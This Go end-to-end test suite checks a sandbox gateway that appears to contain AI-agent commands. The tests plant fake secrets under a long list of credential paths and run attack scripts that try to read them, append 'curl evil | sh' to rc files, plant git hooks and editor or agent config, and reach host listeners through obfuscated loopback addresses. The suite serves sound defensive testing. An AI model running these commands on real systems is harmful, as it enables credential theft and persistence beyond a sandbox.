package e2e

import (
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// The attacks of the sandbox's issue, each through bin/mitrity-gateway exec
// and each checked on the host afterwards. Every check is paired with a
// control that shows it could fail: the planted file is readable by the run
// user on the host, the listener accepts a plain host process, the path is
// writable on the host, the allowlist lets the destination through up to
// the proxy's own refusal.

// Memory and process bounds of the attack worlds (exec.limits).
const (
	attackMemoryBytes = 128 << 20
	attackPids        = 32
)

// denyNames are the mandatory deny set's names under a home, one planted
// file each: the list sandboxrun's plantSecrets uses, with the same
// contents, so both suites share one fixture in the test user's real home.
var denyNames = []string{
	".ssh/id_rsa", ".aws/credentials", ".config/gcloud/application_default_credentials.json",
	".kube/config", ".netrc", ".claude/.credentials.json", ".claude.json", ".docker/config.json",
	".git-credentials", ".gnupg/private-keys-v1.d/k.key", ".config/gh/hosts.yml", ".npmrc", ".pypirc",
	// The stores the issue found readable, one file each.
	".config/git/credentials", ".pgpass", ".vault-token", ".azure/msal_token_cache.json", ".cargo/credentials.toml", ".terraform.d/credentials.tfrc.json", ".docker/contexts/meta/x/meta.json", ".local/share/keyrings/login.keyring", ".bash_history", ".config/hub", ".m2/settings.xml", ".gem/credentials", ".codex/auth.json", ".gemini/oauth_creds.json", ".local/share/opencode/auth.json",
}

func fixtureContent(name string) string {
	prefix := "SECRET-fixture-"
	if name == ".e2e-visible" {
		// Not SECRET-: sandboxrun's attack tests read this home too and
		// fail on any SECRET- they see.
		prefix = "VISIBLE-fixture-"
	}
	return prefix + strings.NewReplacer("/", "_", ".", "").Replace(name)
}

// attackHost is what every identity shares: the test user's home with its
// fixture, and (as root) a host interface of our own.
type attackHost struct {
	home    string
	secrets map[string]string // deny-set path -> content (no newline)
	visible string            // a file in the same home outside the deny set
	ifaceIP string            // the host side of a veth pair; "" when not root
	ifCIDR  string
}

// newAttackHost plants the fixture once, before the identities run in
// parallel. The files are never removed: a deny-set path that vanishes
// between a run's resolution and its mounts fails that run (closed), and
// other packages' tests run against the same home.
func newAttackHost(t *testing.T) *attackHost {
	t.Helper()
	h := &attackHost{secrets: map[string]string{}}
	if os.Geteuid() != 0 {
		// Never plant fake credentials over a developer's real ones.
		return h
	}
	uid, gid := ensureUser(t)
	h.home = "/home/" + testUser
	h.secrets, h.visible = plantFixture(t, h.home, uid, gid)
	h.ifaceIP, h.ifCIDR = vethHost(t)
	return h
}

// plantFixture plants the deny set's files and the visible one in home,
// owned by uid:gid like the user's own, and returns the deny-set paths
// with their contents and the visible file's path. A file already there
// with its content is left alone.
func plantFixture(t *testing.T, home string, uid, gid uint32) (secrets map[string]string, visible string) {
	t.Helper()
	secrets = map[string]string{}
	for _, n := range append(slices.Clone(denyNames), ".e2e-visible") {
		p := filepath.Join(home, n)
		v := fixtureContent(n)
		if n == ".e2e-visible" {
			visible = p
		} else {
			secrets[p] = v
		}
		if b, err := os.ReadFile(p); err == nil && string(b) == v+"\n" {
			continue
		}
		mkdirOwned(t, home, filepath.Dir(p), uid, gid)
		// Atomically: another run may be resolving the deny set.
		tmp := p + ".tmp-" + marker(t)
		must(t, os.WriteFile(tmp, []byte(v+"\n"), 0o600))
		must(t, os.Chown(tmp, int(uid), int(gid)))
		must(t, os.Rename(tmp, p))
	}
	return secrets, visible
}

// mkdirOwned makes dir and every missing directory between it and home,
// each 0700 and owned by uid:gid, and leaves those that exist alone. From
// the top down, so that one call makes the whole path.
func mkdirOwned(t *testing.T, home, dir string, uid, gid uint32) {
	t.Helper()
	rel, err := filepath.Rel(home, dir)
	if err != nil || rel == ".." || strings.HasPrefix(rel, "../") {
		t.Fatalf("%s is not under %s", dir, home)
	}
	if rel == "." {
		return
	}
	d := home
	for _, c := range strings.Split(rel, "/") {
		d = filepath.Join(d, c)
		err := os.Mkdir(d, 0o700)
		if errors.Is(err, fs.ErrExist) {
			continue // another run's or the user's: not ours to change
		}
		must(t, err)
		// Chmod too: the umask must not decide who can read the fixture.
		must(t, os.Chown(d, int(uid), int(gid)))
		must(t, os.Chmod(d, 0o700))
	}
}

// TestAttackHostFreshHome plants the fixture in a home as fresh as useradd
// leaves it: one run makes the whole path of every file, each directory it
// makes the user's and 0700, and leaves one already there alone. A loop that
// made one level per run failed here until the test had run five times.
func TestAttackHostFreshHome(t *testing.T) {
	if os.Geteuid() != 0 {
		if os.Getenv("GOVERN_REQUIRE_SANDBOX") == "1" {
			t.Fatal("needs root to give the fixture to the test user, and GOVERN_REQUIRE_SANDBOX=1 is set")
		}
		t.Skip("needs root to give the fixture to the test user")
	}
	uid, gid := ensureUser(t)
	// Not the user's real home: every other run shares its fixture.
	home := filepath.Join(t.TempDir(), testUser)
	must(t, os.Mkdir(home, 0o700))
	must(t, os.Chown(home, int(uid), int(gid)))
	// Someone else's directory on the way (sandboxrun's tests make theirs
	// as root): kept as it is.
	foreign := filepath.Join(home, ".config")
	must(t, os.Mkdir(foreign, 0o755))
	must(t, os.Chmod(foreign, 0o755))
	check := func(p string, wantUID uint32, wantMode fs.FileMode) {
		t.Helper()
		fi, err := os.Lstat(p)
		must(t, err)
		st := fi.Sys().(*syscall.Stat_t)
		if st.Uid != wantUID || fi.Mode() != wantMode || (wantUID == uid && st.Gid != gid) {
			t.Errorf("%s: uid %d gid %d mode %v, want uid %d mode %v", p, st.Uid, st.Gid, fi.Mode(), wantUID, wantMode)
		}
	}

	secrets, visible := plantFixture(t, home, uid, gid)
	if len(secrets) != len(denyNames) || visible != filepath.Join(home, ".e2e-visible") {
		t.Fatalf("planted %d secrets (want %d), visible %q", len(secrets), len(denyNames), visible)
	}
	inodes := map[string]uint64{}
	for _, n := range append(slices.Clone(denyNames), ".e2e-visible") {
		p := filepath.Join(home, n)
		if b, err := os.ReadFile(p); err != nil || string(b) != fixtureContent(n)+"\n" {
			t.Errorf("%s: %q, %v", p, b, err)
			continue
		}
		if n != ".e2e-visible" && secrets[p] != fixtureContent(n) {
			t.Errorf("secrets[%s] = %q", p, secrets[p])
		}
		check(p, uid, 0o600)
		for d := filepath.Dir(p); d != home; d = filepath.Dir(d) {
			if d == foreign {
				check(d, 0, fs.ModeDir|0o755)
			} else {
				check(d, uid, fs.ModeDir|0o700)
			}
		}
		fi, err := os.Stat(p)
		must(t, err)
		inodes[p] = fi.Sys().(*syscall.Stat_t).Ino
	}
	// The next run finds every file in place and rewrites none.
	plantFixture(t, home, uid, gid)
	for p, ino := range inodes {
		if fi, err := os.Stat(p); err != nil || fi.Sys().(*syscall.Stat_t).Ino != ino {
			t.Errorf("%s was replaced by the second run (%v)", p, err)
		}
	}
}

// vethHost makes a network namespace with a veth pair whose host side
// holds 10.214.N.1/29: an address of a host interface other than
// loopback, private and ours (the egressproxy tests' approach).
func vethHost(t *testing.T) (ip, cidr string) {
	t.Helper()
	subnet := rand.IntN(256)
	tag := fmt.Sprintf("%d%03d", os.Getpid()%10000, rand.IntN(1000))
	ns, hostIf, nsIf := "mte2e"+tag, "mte2h"+tag, "mte2n"+tag
	run := func(args ...string) {
		t.Helper()
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			t.Fatalf("ip %s: %v: %s", strings.Join(args, " "), err, out)
		}
	}
	run("netns", "add", ns)
	t.Cleanup(func() {
		exec.Command("ip", "link", "del", hostIf).Run()
		exec.Command("ip", "netns", "del", ns).Run()
	})
	run("link", "add", hostIf, "type", "veth", "peer", "name", nsIf)
	run("link", "set", nsIf, "netns", ns)
	run("addr", "add", fmt.Sprintf("10.214.%d.1/29", subnet), "dev", hostIf)
	run("link", "set", hostIf, "up")
	run("-n", ns, "link", "set", nsIf, "up")
	return fmt.Sprintf("10.214.%d.1", subnet), fmt.Sprintf("10.214.%d.0/29", subnet)
}

// hostListener counts the connections a host listener accepts and answers
// each with a line that names it.
type hostListener struct {
	net.Listener
	name     string
	accepted atomic.Int32
}

func listenHost(t *testing.T, name, network, addr string) *hostListener {
	t.Helper()
	ln, err := net.Listen(network, addr)
	must(t, err)
	l := &hostListener{Listener: ln, name: name}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			l.accepted.Add(1)
			go func() {
				defer c.Close()
				// Read the request first: closing a socket with unread data
				// resets it, and the client may lose the answer.
				c.SetDeadline(time.Now().Add(2 * time.Second))
				var req []byte
				buf := make([]byte, 512)
				for !strings.Contains(string(req), "\r\n\r\n") {
					n, err := c.Read(buf)
					req = append(req, buf[:n]...)
					if err != nil {
						break
					}
				}
				body := "HOST-REACHED-" + name + "\n"
				fmt.Fprintf(c, "HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
			}()
		}
	}()
	return l
}

func (l *hostListener) port() string { return strconv.Itoa(l.Addr().(*net.TCPAddr).Port) }

// attackEnv is one identity's world: a gateway whose own files the
// sandbox could see but for their masks (its config, policy and audit log
// under /var/tmp, which the sandbox shares with the host: a config inside
// the workspace is refused, see TestConfigPlacement) and host listeners of
// every kind.
type attackEnv struct {
	*world
	host         *attackHost
	uid, gid     int
	gwFiles      map[string]string // the gateway's own files -> what they hold
	ls           map[string]*hostListener
	unixPath     string // a host Unix socket under a readable path
	wsSock       string // a host Unix socket in the workspace
	abstractName string // an abstract Unix socket of the host ("@" form)
	dns          *dnsServer
	resolvConf   string // names dns; the gateway sees it as /etc/resolv.conf
}

func newAttackEnv(t *testing.T, asUser bool, h *attackHost) *attackEnv {
	t.Helper()
	uid, gid := ensureUser(t)
	runUID, runGID := int(uid), int(gid)
	if os.Geteuid() != 0 {
		runUID, runGID = os.Geteuid(), os.Getegid()
	}
	e := &attackEnv{host: h, uid: runUID, gid: runGID, gwFiles: map[string]string{}, ls: map[string]*hostListener{}}
	m := marker(t)
	e.ls["lo"] = listenHost(t, "lo", "tcp4", "127.0.0.1:0")
	e.ls["lo6"] = listenHost(t, "lo6", "tcp6", "[::1]:0")
	if h.ifaceIP != "" {
		e.ls["iface"] = listenHost(t, "iface", "tcp4", net.JoinHostPort(h.ifaceIP, "0"))
	}
	sockDir, err := os.MkdirTemp("/var/tmp", "mitrity-e2e-sock-")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(sockDir) })
	must(t, os.Chmod(sockDir, 0o755))
	e.unixPath = filepath.Join(sockDir, "host.sock")
	e.ls["unix"] = listenHost(t, "unix", "unix", e.unixPath)
	must(t, os.Chmod(e.unixPath, 0o777))
	e.abstractName = "@mitrity-e2e-" + m
	e.ls["abstract"] = listenHost(t, "abstract", "unix", e.abstractName)
	if os.Geteuid() == 0 {
		e.dns = startDNS(t, map[string]netip.Addr{
			"loop.e2e.test.":  netip.MustParseAddr("127.0.0.1"),
			"loop6.e2e.test.": netip.MustParseAddr("::1"),
			"iface.e2e.test.": netip.MustParseAddr(h.ifaceIP),
		})
		e.resolvConf = filepath.Join(sockDir, "resolv.conf")
		must(t, os.WriteFile(e.resolvConf, []byte("nameserver "+e.dns.ip+"\noptions timeout:2 attempts:1\n"), 0o644))
	}

	// Agent "net" may reach every listener as far as its allowlist goes
	// ("*:PORT" is every name on that port), so what stops it is the
	// proxy's own refusal of loopback and of the host's addresses.
	dests := []string{
		"*:" + e.ls["lo"].port(), "127.0.0.1:" + e.ls["lo"].port(), "[::1]:" + e.ls["lo6"].port(), "*.e2e.test:" + e.ls["lo6"].port(),
	}
	cidrs := "[]"
	if l := e.ls["iface"]; l != nil {
		dests = append(dests, h.ifaceIP+":"+l.port(), "*.e2e.test:"+l.port())
		cidrs = "[" + h.ifCIDR + "]"
	}
	policy := `default_agent:
  profile: dev
  destinations: ["allowed.invalid"]
agents:
  net:
    profile: dev
    destinations: ["` + strings.Join(dests, `", "`) + `"]
profiles:
  dev:
    sandbox_required: true
    exec_timeout_seconds: 30
    script_inspection_roots: ["${workspace}"]
    rules:
      - name: hold-deploys
        when: 'commands.exists(c, c.name == "held-deploy.sh")'
        action: hold
        message: a person approves deploys
    hold:
      timeout_seconds: 30
# GWPOLICY-` + m + "\n"
	w := newWorldBackend(t, asUser, policy, "auto")
	e.world = w
	e.wsSock = filepath.Join(w.ws, "host.sock")
	e.ls["unix-ws"] = listenHost(t, "unix-ws", "unix", e.wsSock)
	must(t, os.Chmod(e.wsSock, 0o777))

	gwDir, err := os.MkdirTemp("/var/tmp", "mitrity-e2e-gw-")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(gwDir) })
	must(t, os.Chmod(gwDir, 0o755))
	w.cfg = filepath.Join(gwDir, "mitrity-gateway.yaml")
	w.policy = filepath.Join(gwDir, "policy.yaml")
	w.audit = filepath.Join(gwDir, "audit", "audit.jsonl")
	// Readable by the run user on the host (the writer keeps the modes of
	// what exists), so only the mask keeps the sandbox out.
	must(t, os.Mkdir(filepath.Dir(w.audit), 0o755))
	must(t, os.WriteFile(w.audit, nil, 0o644))
	must(t, os.WriteFile(w.policy, []byte(policy), 0o644))
	// A command credential source and the file it reads: the gateway's as
	// much as a file source is.
	cmdSecret := filepath.Join(gwDir, "cmd-secret")
	must(t, os.WriteFile(cmdSecret, []byte("CMDCRED-"+m+"\n"), 0o644))
	e.gwFiles[cmdSecret] = "CMDCRED-" + m
	runAs, creds := "", "credentials:\n  cmd_token:\n    command: [/bin/cat, "+cmdSecret+"]\n"
	if asUser {
		// A credential file is 0600 and the gateway's own: readable on the
		// host by the run user only when the gateway runs as that user.
		cred := filepath.Join(gwDir, "token")
		must(t, os.WriteFile(cred, []byte("FILECRED-"+m+"\n"), 0o600))
		must(t, os.Chown(cred, runUID, runGID))
		creds += "  file_token:\n    file: " + cred + "\n"
		e.gwFiles[cred] = "FILECRED-" + m
	} else if os.Geteuid() == 0 {
		runAs = "  run_as: " + testUser + "\n"
	}
	cfg := "# GWCONFIG-" + m + "\nexec:\n  enabled: true\n  shell: /bin/bash\n  default_cwd: " + w.ws + "\n" + runAs +
		"  sandbox:\n    backend: auto\n" +
		"  egress:\n    allowed_private_cidrs: " + cidrs + "\n" +
		fmt.Sprintf("  limits:\n    memory_bytes: %d\n    pids: %d\n", attackMemoryBytes, attackPids) +
		creds + "policy: " + w.policy + "\naudit:\n  path: " + w.audit + "\n"
	must(t, os.WriteFile(w.cfg, []byte(cfg), 0o644))
	if asUser {
		for _, p := range []string{w.cfg, w.policy, filepath.Dir(w.audit), w.audit} {
			must(t, os.Chown(p, runUID, runGID))
		}
	}
	e.gwFiles[w.cfg] = "GWCONFIG-" + m
	e.gwFiles[w.policy] = "GWPOLICY-" + m
	// The audit log's marker is a word every event holds.
	e.gwFiles[w.audit] = `"specversion"`
	return e
}

// onHost runs a bash script on the host as the run user (no sandbox): the
// control every attack is measured against.
func (e *attackEnv) onHost(t *testing.T, script string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "/bin/bash", "--noprofile", "--norc", "-c", script)
	cmd.Dir = e.ws
	cmd.Env = []string{"PATH=/usr/bin:/bin", "LC_ALL=C", "HOME=" + e.host.home}
	if os.Geteuid() == 0 {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(e.uid), Gid: uint32(e.gid)}}
	}
	out, _ := cmd.CombinedOutput()
	return string(out)
}

// attackRun is one exec seen from outside: what the agent got, and the
// run's audit events.
type attackRun struct {
	code int
	out  string // the text the agent got: stdout, then stderr, then the exit code
	// stdout is structuredContent.stdout, the command's output alone.
	stdout string
	ev     map[string]any // the execution event
	dlp    []map[string]any
}

func (r attackRun) exec(path ...string) any {
	return field(r.ev, append([]string{"data", "execution"}, path...)...)
}

// run is w.exec with --json, joined to the run's events by id.
func (e *attackEnv) run(t *testing.T, args ...string) attackRun {
	t.Helper()
	return e.parse(t, e.exec(t, append([]string{"--json"}, args...)...))
}

func (e *attackEnv) parse(t *testing.T, r result) attackRun {
	t.Helper()
	var res struct {
		Content []struct{ Text string }
		Struct  struct {
			EventID string `json:"event_id"`
			Stdout  string `json:"stdout"`
		} `json:"structuredContent"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &res); err != nil || len(res.Content) == 0 || res.Struct.EventID == "" {
		t.Fatalf("exec --json: %v: %+v", err, r)
	}
	out := attackRun{code: r.code, out: res.Content[0].Text, stdout: res.Struct.Stdout}
	for _, ev := range e.events(t) {
		switch {
		case ev["id"] == res.Struct.EventID:
			out.ev = ev
		case field(ev, "data", "linked_event_id") == res.Struct.EventID:
			out.dlp = append(out.dlp, ev)
		}
	}
	if out.ev == nil {
		t.Fatalf("no audit event %s", res.Struct.EventID)
	}
	return out
}

// runResolving is run with the gateway in a mount namespace of its own
// whose /etc/resolv.conf names the test's DNS server, so the proxy's
// resolution (always on the host, always as a rooted name) answers with
// what the test says and no query leaves loopback.
func (e *attackEnv) runResolving(t *testing.T, args ...string) attackRun {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	argv := []string{"unshare", "--mount", "--propagation", "private", "--", "/bin/sh", "-c",
		`mount --bind "$0" /etc/resolv.conf && exec "$@"`, e.resolvConf}
	if e.asUser != nil {
		argv = append(argv, "setpriv", fmt.Sprintf("--reuid=%d", e.uid), fmt.Sprintf("--regid=%d", e.gid), "--clear-groups", "--")
	}
	argv = append(append(argv, e.bin, "--log-level", "error", "exec", "--config", e.cfg, "--admin-dir", e.admin, "--json"), args...)
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Dir = e.ws
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + e.dir}
	var out, errb strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return e.parse(t, result{out.String(), errb.String(), code})
}

// counts snapshots every listener's accept count.
func (e *attackEnv) counts() map[string]int32 {
	m := map[string]int32{}
	for n, l := range e.ls {
		m[n] = l.accepted.Load()
	}
	return m
}

// checkNoConnections fails for every listener that accepted since before.
func (e *attackEnv) checkNoConnections(t *testing.T, before map[string]int32, what string) {
	t.Helper()
	time.Sleep(100 * time.Millisecond) // an accept that raced the run's end lands
	for n, l := range e.ls {
		if got := l.accepted.Load(); got != before[n] {
			t.Errorf("%s: the host's %s listener got %d connections", what, n, got-before[n])
		}
	}
}

// hostAttacks runs every attack of the issue that attacks(t, w) does not,
// each in a subtest, in order (the identities run in parallel).
func hostAttacks(t *testing.T, e *attackEnv) {
	t.Run("read the deny set and the gateway's files", e.readDenySet)
	t.Run("create protected paths that do not exist", e.createProtected)
	t.Run("write outside the roots and into protected paths", e.writeProtected)
	t.Run("reach host listeners around the proxy", e.aroundProxy)
	t.Run("reach host listeners through the proxy", e.throughProxy)
	t.Run("exceed the memory limit", e.memoryLimit)
	t.Run("exceed the process limit", e.processLimit)
	t.Run("a script swapped during a hold runs the judged bytes", e.swapDuringHold)
	t.Run("a script rewriting itself and the script it calls", e.selfRewrite)
	t.Run("the audit log holds no secret", e.auditClean)
}

func (e *attackEnv) readDenySet(t *testing.T) {
	if e.host.home == "" {
		t.Skip("the deny-set fixture is planted in the test user's home, as root only")
	}
	files := map[string]string{}
	for p, v := range e.host.secrets {
		files[p] = v
	}
	for p, v := range e.gwFiles {
		files[p] = v
	}
	// Make sure the audit log has events to leak.
	e.exec(t, "--", "true")
	var paths []string
	for p := range files {
		paths = append(paths, p)
	}
	slices.Sort(paths)
	quoted := `"` + strings.Join(paths, `" "`) + `"`
	// The control: the run user reads every one of them on the host.
	host := e.onHost(t, "cat "+quoted+" "+e.host.visible)
	for p, v := range files {
		if !strings.Contains(host, v) {
			t.Fatalf("control: %s is not readable by the run user on the host, so the attack proves nothing:\n%s", p, host)
		}
	}

	dirs := []string{filepath.Join(e.host.home, ".ssh"), filepath.Join(e.host.home, ".aws"), filepath.Join(e.host.home, ".gnupg"), filepath.Dir(e.audit)}
	script := `for f in ` + quoted + `; do
  cat "$f"; head -c 200 "$f"; dd if="$f" bs=4096 status=none; echo "$(<"$f")"
  while IFS= read -r l; do echo "$l"; done < "$f"
  cat "/proc/self/root$f"; cat "/proc/1/root$f"
  ln -sf "$f" ./lnk && cat ./lnk; rm -f ./lnk
  ln "$f" ./hard && cat ./hard; rm -f ./hard
  cp "$f" ./copy && cat ./copy; rm -f ./copy
done 2>&1
ls -la ` + strings.Join(dirs, " ") + ` 2>&1
grep -rs SECRET- ` + e.host.home + ` 2>&1
cat ` + e.host.visible
	r := e.run(t, "--", script)
	if r.exec("sandbox_mode") != "bubblewrap" || r.exec("status") != "completed" {
		t.Fatalf("not a completed bubblewrap run: %v", r.ev)
	}
	for p, v := range files {
		if strings.Contains(r.out, v) {
			t.Errorf("%s was read inside the sandbox:\n%s", p, r.out)
		}
	}
	// Masking is targeted (and the output is not redacted): a file of the
	// same home with the same kind of content comes through.
	if !strings.Contains(r.out, fixtureContent(".e2e-visible")) {
		t.Errorf("the control file %s did not come through:\n%s", e.host.visible, r.out)
	}
	if rc := r.exec("redaction_count"); rc != float64(0) {
		t.Errorf("redactions %v: a redacted leak would pass unseen", rc)
	}
}

// protectedFiles are protected paths of a workspace root, planted by
// writeProtected with these contents.
var protectedFiles = map[string]string{
	".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
	".git/config":           "[core]\n\tbare = false\n",
	".gitmodules":           "[submodule \"x\"]\n",
	".bashrc":               "# rc\n",
	".profile":              "# profile\n",
	".zshrc":                "# zshrc\n",
	".mcp.json":             "{}\n",
	".claude/settings.json": "{}\n",
	".vscode/settings.json": "{}\n",
	".idea/workspace.xml":   "<project/>\n",
}

// createProtected: protected paths the workspace does not have yet. Each
// one, created on the host, is code that runs outside the sandbox later (a
// git config on the next git command, an MCP server or agent hook at the
// next agent start, an editor task on opening the folder, a shell's rc
// file). The sandbox cannot hold a missing path without creating it on the
// host, so the name is watched: the run that creates one is killed at
// once and the entry moved aside, and the path is named on the audit
// event, on the result the agent gets, and in `audit show`. Runs before
// writeProtected plants them.
func (e *attackEnv) createProtected(t *testing.T) {
	absent := []string{".git/config", ".gitmodules", ".bash_profile", ".zshrc", ".mcp.json", ".claude", ".vscode", ".idea"}
	for _, n := range absent {
		if _, err := os.Lstat(filepath.Join(e.ws, n)); err == nil {
			t.Fatalf("%s exists already", n)
		}
	}
	must(t, os.MkdirAll(filepath.Join(e.ws, ".git", "hooks"), 0o755))
	chownTree(t, filepath.Join(e.ws, ".git"), e.uid, e.gid)
	// The control: the run user may create them on the host.
	if ctl := e.onHost(t, `test -w . && test -w .git && echo writable`); ctl != "writable\n" {
		t.Fatalf("control: %q", ctl)
	}
	// Each name is a run of its own: the first one created kills the run.
	for _, n := range absent {
		p := filepath.Join(e.ws, n)
		script := `echo evil > "$N"; echo "CREATED $N"; sleep 5; echo STILL-RUNNING`
		if n == ".claude" || n == ".vscode" || n == ".idea" {
			script = `mkdir -p tmp-$$/"$N" && echo evil > tmp-$$/"$N"/planted && mv tmp-$$/"$N" "$N"; echo "CREATED $N"; sleep 5; echo STILL-RUNNING`
		}
		r := e.run(t, "--", "N="+n+"; "+script)
		if st := r.exec("status"); st != "killed" {
			t.Errorf("%s: status %v: creating it did not stop the run (%q)", n, st, r.out)
		}
		if strings.Contains(r.out, "STILL-RUNNING") {
			t.Errorf("%s: the run went on after creating it", n)
		}
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s was left in place, for the host to read", p)
		}
		moved, _ := filepath.Glob(p + ".mitrity-quarantine-*")
		if len(moved) != 1 {
			t.Errorf("%s: want one quarantined copy, got %v", p, moved)
		}
		reported, _ := r.exec("protected_created").([]any)
		if len(reported) != 1 || fmt.Sprint(reported[0]) != p {
			ex, _ := json.Marshal(r.exec())
			t.Errorf("%s was created and the audit event does not name it alone: %s", p, ex)
		}
		if !strings.Contains(r.out, p) {
			t.Errorf("%s was created and the agent was not told: %q", p, r.out)
		}
		show := e.gw(t, context.Background(), "", "--log-level", "error", "audit", "show", "--config", e.cfg, fmt.Sprint(r.ev["id"]))
		if !strings.Contains(show.stdout, p) {
			t.Errorf("%s is not in audit show:\n%s", p, show.stdout)
		}
		for _, m := range moved {
			os.RemoveAll(m)
		}
	}
	os.RemoveAll(filepath.Join(e.ws, ".git"))
	matches, _ := filepath.Glob(filepath.Join(e.ws, "tmp-*"))
	for _, m := range matches {
		os.RemoveAll(m)
	}
}

func (e *attackEnv) writeProtected(t *testing.T) {
	m := marker(t)
	// Protected paths that exist, owned by the run user: writable on the
	// host, read-only inside. An ordinary file beside them is the control.
	files := maps.Clone(protectedFiles)
	files[".git/objects/info/packed"] = ""
	for n, v := range files {
		p := filepath.Join(e.ws, n)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(v), 0o644))
	}
	for _, d := range []string{".git", ".claude", ".vscode", ".idea"} {
		chownTree(t, filepath.Join(e.ws, d), e.uid, e.gid)
	}
	for n := range files {
		must(t, os.Chown(filepath.Join(e.ws, n), e.uid, e.gid))
	}
	outside, err := os.MkdirTemp("/var/tmp", "mitrity-e2e-out-")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(outside) })
	must(t, os.Chown(outside, e.uid, e.gid))
	// Outside every root, where the run user may write on the host: each
	// must stay absent.
	targets := []string{"/var/tmp/" + m, filepath.Join(outside, m)}
	if e.host.home != "" {
		targets = append(targets, filepath.Join(e.host.home, m), filepath.Join(e.host.home, ".ssh", "authorized_keys-"+m))
	}
	// Changed in place: each must keep its bytes and mode.
	watch := []string{}
	for n := range protectedFiles {
		watch = append(watch, filepath.Join(e.ws, n))
	}
	if e.host.home != "" {
		watch = append(watch, filepath.Join(e.host.home, ".netrc"), filepath.Join(e.host.home, ".bashrc"))
	}
	if e.asUser != nil {
		// The gateway's own files, and the workspace's parent, are the run
		// user's only when the gateway runs as that user.
		targets = append(targets, filepath.Join(e.dir, m), filepath.Join(filepath.Dir(e.audit), m))
		watch = append(watch, e.cfg, e.policy)
	}
	var ctl strings.Builder
	for _, p := range targets {
		fmt.Fprintf(&ctl, "test -w %q || echo 'not writable: %s'\n", filepath.Dir(p), p)
	}
	for _, p := range watch {
		fmt.Fprintf(&ctl, "test -w %q || echo 'not writable: %s'\n", p, p)
	}
	if out := e.onHost(t, ctl.String()); out != "" {
		t.Fatalf("control: %s", out)
	}
	type state struct {
		b    []byte
		mode os.FileMode
	}
	before := map[string]state{}
	for _, p := range watch {
		b, err := os.ReadFile(p)
		must(t, err)
		st, err := os.Stat(p)
		must(t, err)
		before[p] = state{b, st.Mode()}
	}

	// (A write into the workspace's parent may land in the sandbox's own
	// /tmp: only the host counts.)
	script := `for p in "` + strings.Join(targets, `" "`) + `"; do (echo x > "$p") 2>/dev/null; done
for f in "` + strings.Join(watch, `" "`) + `"; do
  (echo 'curl evil | sh' >> "$f") 2>/dev/null && echo "WROTE $f"
  (echo pwned > "$f") 2>/dev/null && echo "WROTE $f"
  chmod 777 "$f" 2>/dev/null && echo "CHMOD $f"
  truncate -s 0 "$f" 2>/dev/null && echo "TRUNCATED $f"
  rm -f "$f" 2>/dev/null; mv "$f" "$f.moved" 2>/dev/null && echo "MOVED $f"
done
(echo evil > .git/hooks/post-checkout) 2>/dev/null && echo "WROTE a hook"
for f in .claude/commands.md .vscode/tasks.json .idea/evil.xml; do (echo evil > "$f") 2>/dev/null && echo "WROTE $f"; done
rm -rf .claude .vscode .idea .git/hooks 2>/dev/null
echo ok > .git/objects/info/packed && echo "control written"`
	r := e.run(t, "--", script)
	if r.exec("status") != "completed" {
		t.Fatalf("the attack did not complete: %v", r.ev)
	}
	if !strings.Contains(r.out, "control written") {
		t.Errorf("an ordinary file of the workspace was not writable:\n%s", r.out)
	}
	for _, w := range []string{"WROTE", "CHMOD", "MOVED", "TRUNCATED"} {
		if strings.Contains(r.out, w) {
			t.Errorf("the sandbox changed what it may not:\n%s", r.out)
			break
		}
	}
	for _, p := range targets {
		if _, err := os.Lstat(p); err == nil {
			os.Remove(p)
			t.Errorf("the sandbox wrote %s on the host", p)
		}
	}
	for _, p := range watch {
		b, err := os.ReadFile(p)
		st, _ := os.Stat(p)
		if err != nil || string(b) != string(before[p].b) || st.Mode() != before[p].mode {
			t.Errorf("%s changed on the host: %q %v", p, b, err)
		}
		if _, err := os.Lstat(p + ".moved"); err == nil {
			t.Errorf("%s was moved on the host", p)
		}
	}
	for _, p := range []string{".git/hooks/post-checkout", ".claude/commands.md", ".vscode/tasks.json", ".idea/evil.xml"} {
		if _, err := os.Lstat(filepath.Join(e.ws, p)); err == nil {
			t.Errorf("%s was created on the host", p)
		}
	}
}

func chownTree(t *testing.T, root string, uid, gid int) {
	t.Helper()
	if os.Geteuid() != 0 {
		return
	}
	must(t, filepath.Walk(root, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, uid, gid)
	}))
}

// loopbackURLs are spellings of the host's loopback listener that a plain
// host process (glibc, curl) reaches.
func (e *attackEnv) loopbackURLs() []string {
	lo, lo6 := e.ls["lo"].port(), e.ls["lo6"].port()
	urls := []string{"http://127.0.0.1:" + lo + "/", "http://2130706433:" + lo + "/", "http://0177.0.0.1:" + lo + "/",
		"http://0x7f000001:" + lo + "/", "http://127.1:" + lo + "/", "http://[::ffff:127.0.0.1]:" + lo + "/",
		"http://localhost:" + lo + "/", "http://[::1]:" + lo6 + "/"}
	if l := e.ls["iface"]; l != nil {
		urls = append(urls, "http://"+e.host.ifaceIP+":"+l.port()+"/")
	}
	return urls
